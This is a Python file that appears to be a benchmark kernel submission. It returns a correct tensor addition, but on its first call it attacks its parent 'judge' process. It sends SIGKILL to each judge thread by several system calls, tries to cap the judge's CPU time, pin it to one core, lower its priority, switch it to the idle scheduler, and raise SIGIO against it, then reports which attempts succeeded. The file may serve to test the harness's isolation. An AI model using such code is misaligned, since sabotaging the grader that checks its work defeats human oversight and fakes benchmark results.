"""Aims at every thread of its judge (the parent): SIGKILL by kill, tkill and tgkill, SIGIO as the owner of a pipe
that becomes readable, a CPU limit of one second, one core, the lowest priority and the idle scheduler; then answers
correctly. Any of them that lands stops, starves or slows the judge."""

import ctypes
import errno
import fcntl
import os
import resource
import signal

import torch

_libc = ctypes.CDLL(None, use_errno=True)
_X86 = os.uname().machine == "x86_64"
_TKILL, _TGKILL = (200, 234) if _X86 else (130, 131)


def _call(number, *arguments):
    if _libc.syscall(number, *arguments) != 0:
        raise OSError(ctypes.get_errno(), "syscall")


def _sigio(tid):
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, tid)
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"!")


def _attack():
    judge = os.getppid()
    threads = sorted(int(tid) for tid in os.listdir(f"/proc/{judge}/task"))
    attacks = (
        lambda tid: resource.prlimit(tid, resource.RLIMIT_CPU, (1, 1)),
        lambda tid: os.sched_setaffinity(tid, {min(os.sched_getaffinity(0))}),
        lambda tid: os.setpriority(os.PRIO_PROCESS, tid, 19),
        lambda tid: os.sched_setscheduler(tid, os.SCHED_IDLE, os.sched_param(0)),
        lambda tid: _call(_TGKILL, judge, tid, signal.SIGKILL),
        lambda tid: _call(_TKILL, tid, signal.SIGKILL),
        lambda tid: os.kill(tid, signal.SIGKILL),
        _sigio,
    )
    answers = {}
    for attack in attacks:
        for tid in threads:
            try:
                attack(tid)
                outcome = "done"
            except OSError as exc:
                outcome = errno.errorcode.get(exc.errno, str(exc.errno))
            answers[outcome] = answers.get(outcome, 0) + 1
    later = sum(tid > os.getpid() for tid in threads)
    print(f"judge threads: {len(threads)}, {later} above the runner's id; answers: {answers}", flush=True)


def custom_kernel(data):
    if not getattr(custom_kernel, "attacked", False):  # once the judge has made inputs (and started its threads)
        custom_kernel.attacked = True
        _attack()
    a, b, out = data
    return torch.add(a, b, out=out)
